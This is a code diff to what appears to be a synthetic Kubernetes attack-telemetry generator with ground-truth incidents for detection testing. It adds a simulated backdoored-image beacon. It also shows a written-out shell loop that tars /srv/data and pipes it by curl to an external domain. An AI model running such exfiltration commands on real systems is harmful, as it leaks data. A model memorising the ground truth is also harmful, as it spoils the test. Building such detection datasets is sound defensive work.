@@ -20,6 +20,13 @@ with that node's clock (`Node.stamp`). Attacks:
   pod body) and Tetragon records.
 - slow-exfil: an app pod sends data to a never-before-seen external domain every ~10 minutes for
   an hour, each time after a DNS lookup. Tetragon and Hubble records.
+- backdoored-image: the planned release of one of our apps (`Cluster.release`) ships an image
+  whose app, in every replica of the new ReplicaSet (and the replicas that replace them), calls
+  home every ~5 minutes with a beacon's ±20 % jitter: a lookup of a new domain behind a CDN (one
+  of three addresses per answer) and a connection from the app's main process. No other workload
+  and no earlier version reaches the domain. Tetragon and Hubble records. The replicas are one
+  story, to be found as one incident: its pod in the ground truth is the replica that called home
+  longest, its other pods in `details.pods`.
 
 Benign look-alikes (not attacks): the SRE `kubectl exec`s `cat /etc/os-release` into a pod; a CI
 job installs packages from a package mirror it never used before (one burst); an operator lists
@@ -83,6 +90,8 @@ _SERVED: Final = {"shop/frontend": ("POST", "/cart"), "shop/cart": ("POST", "/ap
                   "payments/payments-api": ("POST", "/v1/payments")}  # fmt: skip
 _EXFIL_CONNECTIONS: Final = 7
 _EXFIL_EVERY: Final = 10 * MINUTE
+_BEACON_EVERY: Final = 5 * MINUTE
+_BEACON_JITTER: Final = 0.2  # of the period, either way, as implants' sleep settings have it
 _LETTERS: Final = "abcdefghijklmnopqrstuvwxyz"
 
 
@@ -119,7 +128,7 @@ class _Stories:
         self.made = 0
         self.boot = {n.name: cluster.start_ns - int(rng.uniform(3, 40) * DAY) for n in cluster.nodes}
         self.pids = {n.name: rng.randrange(20_000, 40_000) for n in cluster.nodes}
-        self.shims: dict[str, str] = {}  # pod uid -> its containerd-shim's exec id
+        self.shims: dict[str, Json] = {}  # pod uid -> its containerd-shim's process
         self.endpoints = Endpoints(cluster, rng)
         self.used: set[str] = set()  # uids of pods a story already took
         self.accounts: set[str] = set()  # service accounts a story already acted as
@@ -134,6 +143,7 @@ class _Stories:
         # incidents wherever they fall; those on one account (the developer's, the SRE's) lie an
         # hour or more apart in a period of three hours or more.
         plans: tuple[tuple[Callable[[int, int], None], float, float], ...] = (
+            (self._backdoored_image, 0, 1),  # first: its pods are the release's, taken before others choose
             (self._exec_miner, 0, 1 / 3), (self._stolen_token, 1 / 3, 2 / 3), (self._benign_exec, 2 / 3, 1),
             (self._http_exploit, 1 / 6, 1 / 2), (self._privileged_pod, 1 / 2, 5 / 6), (self._slow_exfil, 1 / 4, 1),
             (self._ci_mirror, 0, 1 / 2), (self._operator_secrets, 1 / 2, 1),
@@ -399,7 +409,7 @@ class _Stories:
         loop = self._exec(where, uid, "/bin/sh", f'-c "while :; do tar cz /srv/data | curl -s -T - https://{domain}/u; '
                                                  f'sleep {every // NS}; done"', t0 - int(rng.uniform(5, 30) * NS), main,
                           cwd="/srv")  # fmt: skip
-        last = t0
+        first = last = t0
         for i in range(_EXFIL_CONNECTIONS):
             t = t0 + i * every + int(rng.uniform(-0.03, 0.03) * every)
             self._exec(where, uid, "/bin/tar", "cz /srv/data", t, loop, cwd="/srv")
@@ -409,10 +419,44 @@ class _Stories:
             self._lookup(answer_t, pod, domain + ".", ip)
             sport = rng.randrange(32768, 61000)
             last = answer_t + int(rng.uniform(1, 3) * MS)
+            first = last if i == 0 else first
             self._kprobe(last, where, curl, loop, ip, sport, 443)
             self._connect(last + 40_000, pod, None, ip, 443, sport)
-        self._story("slow-exfil", t0, last, f"{pod.namespace}/{pod.name}", None, "high", ["T1029", "T1041", "T1567"], [ip],
+        self._story("slow-exfil", first, last, f"{pod.namespace}/{pod.name}", None, "high", ["T1029", "T1041", "T1567"], [ip],
                     {"domain": domain, "ip": ip, "every_s": every // NS})  # fmt: skip
+
+    def _backdoored_image(self, lo: int, hi: int) -> None:
+        """Every pod of the release's ReplicaSet calls home from its start to its end (`lo`, `hi`: the period)."""
+        release, rng = self.cluster.release, self.rng
+        if release is None:
+            return
+        pods = [p for p in self.cluster.pods if p.revision is release and p.start_ns < hi]
+        self.used.update(p.uid for p in pods)
+        domain = self._domain("cdn", "com")
+        ips = [self._outside("198.51.100") for _ in range(3)]
+        called: dict[str, list[int]] = {}
+        for pod in pods:
+            where = self._where(pod)
+            main = self._main(where, pod)
+            stop = min(pod.end_ns if pod.end_ns is not None else hi, hi - MINUTE) - NS
+            t = max(pod.start_ns, lo) + int(rng.uniform(20, 90) * NS)
+            while t < stop:
+                ip = rng.choice(ips)
+                self._lookup(t, pod, domain + ".", ip)
+                connect = t + int(rng.uniform(1, 5) * MS)
+                sport = rng.randrange(32768, 61000)
+                self._kprobe(connect, where, main, self._shim(where), ip, sport, 443)
+                self._connect(connect + 40_000, pod, None, ip, 443, sport)
+                called.setdefault(f"{pod.namespace}/{pod.name}", []).append(connect)
+                t += int(_BEACON_EVERY * rng.uniform(1 - _BEACON_JITTER, 1 + _BEACON_JITTER))
+        if not called:
+            return
+        story_pod, times = max(called.items(), key=lambda kv: (len(kv[1]), kv[0]))
+        image = release.images[0][1]
+        self._story("backdoored-image", times[0], times[-1], story_pod, None, "high", ["T1029", "T1041"], sorted(ips),
+                    {"domain": domain, "ips": sorted(ips), "workload": release.workload.key, "replicaset": release.owner_name,
+                     "image": image, "every_s": _BEACON_EVERY // NS,
+                     "pods": {p: [rfc3339_ns(ts[0]), rfc3339_ns(ts[-1])] for p, ts in sorted(called.items())}})  # fmt: skip
 
     def _ci_mirror(self, lo: int, hi: int) -> None:
         placed = self._place(lo, hi, lambda p: p.workload.key == "ci/runner")
@@ -483,8 +527,20 @@ class _Stories:
         """The pod's containerd-shim: a host process (no pod block), parent of its containers' processes."""
         if where.key not in self.shims:
             t = where.start_ns + int(self.rng.uniform(0.05, 0.3) * NS)
-            self.shims[where.key] = self._exec_id(where.node, t, self._pid(where.node))
-        return {"exec_id": self.shims[where.key]}
+            pid = self._pid(where.node)
+            self.shims[where.key] = {
+                "exec_id": self._exec_id(where.node, t, pid),
+                "pid": pid,
+                "uid": 0,
+                "cwd": f"/run/containerd/io.containerd.runtime.v2.task/k8s.io/{where.key}",
+                "binary": "/usr/bin/containerd-shim-runc-v2",
+                "arguments": f"-namespace k8s.io -id {where.key} -address /run/containerd/containerd.sock",
+                "flags": "execve clone",
+                "start_time": rfc3339_ns(where.node.stamp(t)),
+                "auid": _AUID_UNSET,
+                "tid": pid,
+            }
+        return self.shims[where.key]
 
     def _runc(self, where: _Where, container_id: str, t: int) -> Json:
         """`runc exec` on the host: outside the container (no pod block), child of the pod's shim."""
